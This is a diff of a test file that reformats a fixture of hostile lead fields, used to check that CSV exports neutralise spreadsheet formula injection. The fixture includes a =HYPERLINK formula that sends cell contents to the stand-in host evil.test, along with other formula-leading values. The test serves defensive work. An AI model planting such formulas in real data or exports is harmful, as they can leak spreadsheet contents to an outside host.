@@ -8,7 +8,13 @@ import { settledImport, startCsvImport } from "./helpers/imports";
 // Issue 33's adversarial pass: a CSV export opened in a spreadsheet must not run what a lead typed into its name
 // (CSV / formula injection: a cell starting with = + - @ is a formula to Excel, LibreOffice and Sheets).
 
-const HOSTILE = { firstName: '=HYPERLINK("http://evil.test/?"&A1,"Open")', lastName: "+1+1", notes: "@SUM(A1:A9)", tags: ["-2+3"], phone: "+14165550199" };
+const HOSTILE = {
+  firstName: '=HYPERLINK("http://evil.test/?"&A1,"Open")',
+  lastName: "+1+1",
+  notes: "@SUM(A1:A9)",
+  tags: ["-2+3"],
+  phone: "+14165550199",
+};
 
 describe("CSV exports and the errors CSV neutralize formulas", () => {
   it("prefixes a cell a spreadsheet would run with an apostrophe, leaves plain numbers, and an import reads it back equal", async () => {
